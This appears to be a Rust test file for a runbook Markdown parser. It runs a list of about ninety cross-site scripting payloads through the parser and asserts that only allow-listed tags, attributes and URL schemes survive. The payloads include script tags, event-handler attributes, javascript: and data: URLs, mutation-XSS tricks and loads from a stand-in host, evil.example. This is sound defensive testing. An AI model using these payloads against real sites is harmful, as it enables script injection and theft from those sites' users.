//! Nothing that a file holds runs in a browser: the output is read with an HTML tokeniser and every tag and attribute in it
//! must be one of those that this project means.

#![expect(clippy::unwrap_used, reason = "a test may panic")]

use std::cell::RefCell;

use html5ever::tendril::StrTendril;
use html5ever::tokenizer::{BufferQueue, Token, TokenSink, TokenSinkResult, Tokenizer, TokenizerOpts};
use runbook::{Block, Body, RunbookId, SafeHtml, parse};

const TAGS: &[&str] = &[
    "a",
    "abbr",
    "b",
    "blockquote",
    "br",
    "code",
    "dd",
    "del",
    "details",
    "div",
    "dl",
    "dt",
    "em",
    "h1",
    "h2",
    "h3",
    "h4",
    "h5",
    "h6",
    "hr",
    "i",
    "img",
    "ins",
    "kbd",
    "li",
    "mark",
    "ol",
    "p",
    "pre",
    "q",
    "s",
    "samp",
    "small",
    "span",
    "strong",
    "sub",
    "summary",
    "sup",
    "table",
    "tbody",
    "td",
    "tfoot",
    "th",
    "thead",
    "tr",
    "u",
    "ul",
    "var",
];
const ATTRIBUTES: &[&str] =
    &["href", "title", "rel", "src", "alt", "start", "colspan", "rowspan", "scope", "open", "class", "id"];

const VECTORS: &[&str] = &[
    "<script>alert(1)</script>",
    "<SCRIPT SRC=//evil.example/x.js></SCRIPT>",
    "<scr<script>ipt>alert(1)</scr</script>ipt>",
    "<script/x>alert(1)</script>",
    "<img src=x onerror=alert(1)>",
    "<img src=\"x\" onerror=\"alert(1)\" />",
    "<img/src=x/onerror=alert(1)>",
    "<img src=javascript:alert(1)>",
    "<img src=data:text/html;base64,PHNjcmlwdD4=>",
    "<img src=//evil.example/beacon.gif>",
    "<img src=http://evil.example/beacon.gif>",
    "<img srcset='x 1x, http://evil.example 2x'>",
    "![x](javascript:alert(1))",
    "![x](http://evil.example/beacon.gif)",
    "![x](/portal/action)",
    "[x](javascript:alert(1))",
    "[x](JaVaScRiPt:alert(1))",
    "[x](java\tscript:alert(1))",
    "[x](&#106;avascript:alert(1))",
    "[x](javascript&colon;alert(1))",
    "[x](vbscript:msgbox(1))",
    "[x](data:text/html,<script>alert(1)</script>)",
    "[x](file:///etc/passwd)",
    "[x](//evil.example)",
    "[x](/\\evil.example)",
    "[x](\\\\evil.example)",
    "<javascript:alert(1)>",
    "<a href=' javascript:alert(1)'>x</a>",
    "<a href='\u{1}javascript:alert(1)'>x</a>",
    "<a href=\"java\nscript:alert(1)\">x</a>",
    "<a href=x onclick=alert(1)>x</a>",
    "<a href=x target=_blank ping=//evil.example>x</a>",
    "<svg onload=alert(1)>",
    "<svg><script>alert(1)</script></svg>",
    "<svg><a xlink:href=javascript:alert(1)><text>x</text></a></svg>",
    "<svg><animate onbegin=alert(1) attributeName=x></svg>",
    "<svg><style><img src=x onerror=alert(1)></style></svg>",
    "<math><mi//xlink:href=\"data:x,<script>alert(1)</script>\">",
    "<math><mtext><table><mglyph><style><!--</style><img title=\"--&gt;&lt;img src=1 onerror=alert(1)&gt;\">",
    "<iframe src=javascript:alert(1)></iframe>",
    "<iframe srcdoc='<script>alert(1)</script>'></iframe>",
    "<object data=javascript:alert(1)></object>",
    "<embed src=javascript:alert(1)>",
    "<form action=/runs method=post><button>Run</button></form>",
    "<input autofocus onfocus=alert(1)>",
    "<button formaction=javascript:alert(1)>x</button>",
    "<textarea><img src=x onerror=alert(1)></textarea>",
    "<select><option><img src=x onerror=alert(1)></select>",
    "<style>body{background:url(//evil.example)}</style>",
    "<div style='position:fixed;inset:0;background:url(javascript:alert(1))'>x</div>",
    "<p style=\"behavior:url(x)\">x</p>",
    "<link rel=stylesheet href=//evil.example/x.css>",
    "<meta http-equiv=refresh content='0;url=javascript:alert(1)'>",
    "<base href=//evil.example/>",
    "<body onload=alert(1)>",
    "<video><source onerror=alert(1)></video>",
    "<audio src=x onerror=alert(1)>",
    "<details open ontoggle=alert(1)>x</details>",
    "<marquee onstart=alert(1)>x</marquee>",
    "<template><script>alert(1)</script></template>",
    "<noscript><p title=\"</noscript><img src=x onerror=alert(1)>\">",
    "<xmp><img src=x onerror=alert(1)></xmp>",
    "<title><img src=x onerror=alert(1)></title>",
    "<!--><img src=x onerror=alert(1)>-->",
    "<!-- --!><img src=x onerror=alert(1)> -->",
    "<![CDATA[<img src=x onerror=alert(1)>]]>",
    "<?xml version='1.0'?><x onclick=alert(1)>",
    "<div id=portal-menu class='step portal hl-evil EVIL' name=step-1>x</div>",
    "<div id=step-1>x</div>",
    "<a name=portal-x id=portal-y>x</a>",
    "<island-component data-component=Run data-props='{}'>x</island-component>",
    "<leptos-island data-component=x>y</leptos-island>",
    "<h2 onclick=alert(1)>x</h2>",
    "`<img src=x onerror=alert(1)>`",
    "```bash\n<img src=x onerror=alert(1)> '</code></pre><script>alert(1)</script>'\n```",
    "```\"><script>alert(1)</script>\nx\n```",
    "```sql\n-- </span><script>alert(1)</script>\nSELECT 1;\n```",
    "```yaml\na: </pre><img src=x onerror=alert(1)>\n```",
    "```\nSlack: [<img src=x onerror=alert(1)>]\n```",
    "1. **<img src=x onerror=alert(1)>**\n   ```bash\n   # <script>alert(1)</script>\n   ls # </span><script>\n   # Expected: <svg onload=alert(1)>\n   ```",
    "**<svg onload=alert(1)>**:\n- Scale <img src=x onerror=alert(1)>",
    "| <img src=x onerror=alert(1)> |\n|---|\n| <script>alert(1)</script> |",
    "[^\"><script>]\n\n[^\"><script>]: x <img src=x onerror=alert(1)>",
    "[x]: javascript:alert(1)\n\n[x]",
    "> <img src=x onerror=alert(1)>",
    "# <img src=x onerror=alert(1)>",
    "a\u{0}<img src=x onerror=alert(1)>",
    "<IMG SRC=x oNeRrOr=alert(1)>",
    "<p/onmouseover=alert(1)>x",
    "<a href=\"https://x\" rel=opener>x</a>",
];

/// A tag and its attributes.
type Found = (String, Vec<(String, String)>);

#[derive(Default)]
struct Tags(RefCell<Vec<Found>>);

impl TokenSink for Tags {
    type Handle = ();

    fn process_token(&self, token: Token, _line: u64) -> TokenSinkResult<()> {
        match token {
            Token::TagToken(tag) => {
                let attributes = tag
                    .attrs
                    .iter()
                    .map(|attribute| (attribute.name.local.to_string(), attribute.value.to_string()))
                    .collect();
                self.0.borrow_mut().push((tag.name.to_string(), attributes));
            }
            Token::CommentToken(text) => panic!("a comment: {text}"),
            Token::DoctypeToken(_) => panic!("a doctype"),
            _ => {}
        }
        TokenSinkResult::Continue
    }
}

fn assert_safe(html: &SafeHtml, vector: &str) {
    let tokenizer = Tokenizer::new(Tags::default(), TokenizerOpts::default());
    let queue = BufferQueue::default();
    queue.push_back(StrTendril::from(html.as_str()));
    let _ = tokenizer.feed(&queue);
    tokenizer.end();
    for (tag, attributes) in tokenizer.sink.0.borrow().iter() {
        assert!(TAGS.contains(&tag.as_str()), "<{tag}> from {vector}: {}", html.as_str());
        for (name, value) in attributes {
            assert!(ATTRIBUTES.contains(&name.as_str()), "{name} from {vector}: {}", html.as_str());
            let plain: String =
                value.chars().filter(|c| !c.is_control() && !c.is_whitespace()).collect::<String>().to_lowercase();
            match name.as_str() {
                "href" => {
                    let scheme = plain
                        .split_once(':')
                        .map(|(scheme, _)| scheme)
                        .filter(|scheme| !scheme.contains(['/', '?', '#']));
                    assert!(
                        scheme.is_none_or(|scheme| ["http", "https", "mailto"].contains(&scheme)),
                        "{value} from {vector}"
                    );
                    assert!(
                        !plain.starts_with("//") && !plain.starts_with('\\') && !plain.starts_with("/\\"),
                        "{value} from {vector}"
                    );
                }
                "src" => assert!(!plain.contains(':') && !plain.starts_with(['/', '\\']), "{value} from {vector}"),
                "id" => assert!(plain.starts_with("footnote-"), "{value} from {vector}"),
                "rel" => assert_eq!(value, "noopener noreferrer"),
                "class" => {
                    let ours = |class: &str| {
                        class.starts_with("hl-")
                            || [
                                "table-scroll",
                                "placeholder",
                                "code",
                                "footnote-definition",
                                "footnote-definition-label",
                                "footnote-reference",
                            ]
                            .contains(&class)
                    };
                    assert!(value.split(' ').all(ours), "{value} from {vector}");
                }
                _ => {}
            }
        }
    }
}

fn assert_all_safe(text: &str) {
    let runbook = parse(RunbookId::new("x"), text.as_bytes(), None).unwrap();
    for block in &runbook.blocks {
        match block {
            Block::Prose(html) => assert_safe(html, text),
            Block::Heading(heading) => {
                assert!(
                    heading.anchor.chars().all(|c| c.is_alphanumeric() || matches!(c, '-' | '_')),
                    "{}",
                    heading.anchor
                );
                assert!(
                    !["step-", "portal-", "footnote-"].iter().any(|own| heading.anchor.starts_with(own)),
                    "{}",
                    heading.anchor
                );
            }
            // Drawn as text by whoever draws it.
            Block::Step(..) | Block::Widget(_) => {}
        }
    }
    for procedure in &runbook.procedures {
        for step in &procedure.steps {
            assert_safe(&step.prose, text);
            match &step.body {
                Body::Commands { commands, .. } => commands.iter().for_each(|command| assert_safe(&command.html, text)),
                Body::Yaml(code) | Body::Message(code) => assert_safe(&code.html, text),
                Body::Manual => {}
            }
        }
    }
}

#[test]
fn nothing_executable_is_left() {
    assert!(VECTORS.len() >= 50);
    for vector in VECTORS {
        assert_all_safe(vector);
        assert_all_safe(&format!("# T\n\n## S\n\n{vector}\n"));
        assert_all_safe(&format!("# T\n\n## S\n\n1. **A** - {vector}\n   ```bash\n   ls # {vector}\n   ```\n"));
        assert_all_safe(&format!("- {vector}\n\n> {vector}\n"));
        assert_all_safe(&format!("```bash\n# {vector}\necho '{vector}'\n```\n"));
        assert_all_safe(&format!("```yaml\na: {vector}\n```\n\n**Template**:\n```\n[{vector}]\n```\n"));
        assert_all_safe(&format!("# {vector}\n\n[to](#{vector})\n"));
    }
    for pair in VECTORS.windows(2) {
        assert_all_safe(&pair.concat());
    }
}

#[test]
fn headings_stay_clear_of_the_pages_own_ids() {
    for name in ["Step 1", "step-1", "Portal menu", "Footnote 1"] {
        let runbook = parse(
            RunbookId::new("x"),
            format!("# {name}\n\n[to](#{})\n", name.to_lowercase().replace(' ', "-")).as_bytes(),
            None,
        )
        .unwrap();
        let Block::Heading(heading) = &runbook.blocks[0] else { panic!("no heading") };
        assert!(heading.anchor.starts_with("section-"), "{}", heading.anchor);
    }
    let runbook = parse(RunbookId::new("x"), b"# Step 1\n\n[to](#step-1)\n", None).unwrap();
    let Block::Prose(html) = &runbook.blocks[1] else { panic!("no text") };
    assert!(html.as_str().contains("href=\"#section-step-1\""), "{}", html.as_str());
}

#[test]
fn what_people_write_stays() {
    let text = "a **b** ~~c~~ `d` [e](https://x) [f](g.md#h) <mailto:a@b.c>\n\n| a |\n|---|\n| b |\n\n- [x] done\n\nnote[^1]\n\n[^1]: foot\n\n![p](img/p.png)\n\n<details><summary>s</summary>t</details>\n";
    let runbook = parse(RunbookId::new("x"), text.as_bytes(), None).unwrap();
    let html: String =
        runbook.blocks.iter().map(|block| if let Block::Prose(html) = block { html.as_str() } else { "" }).collect();
    for part in [
        "<strong>b</strong>",
        "<del>c</del>",
        "<code>d</code>",
        "href=\"https://x\"",
        "rel=\"noopener noreferrer\"",
        "href=\"g.md#h\"",
        "mailto:a@b.c",
        "table-scroll",
        "href=\"#footnote-1\"",
        "id=\"footnote-1\"",
        "src=\"img/p.png\"",
        "<summary>s</summary>",
    ] {
        assert!(html.contains(part), "{part}: {html}");
    }
}
